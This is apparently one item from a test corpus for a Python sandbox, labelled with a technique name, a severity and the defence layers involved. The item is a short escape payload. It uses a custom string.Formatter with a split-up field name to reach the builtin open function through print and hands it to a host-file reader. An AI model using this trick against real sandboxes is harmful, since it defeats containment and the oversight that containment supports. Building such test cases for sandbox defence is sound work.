# technique: a Formatter of the program's own is handed the object
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import string

found = []

class Keeper(string.Formatter):
    def format_field(self, value, specification):
        found.append(value)
        return ""

def trick():
    Keeper().format("{0.__se" + "lf__.open}", print)
    return found[0]

read_host(trick)
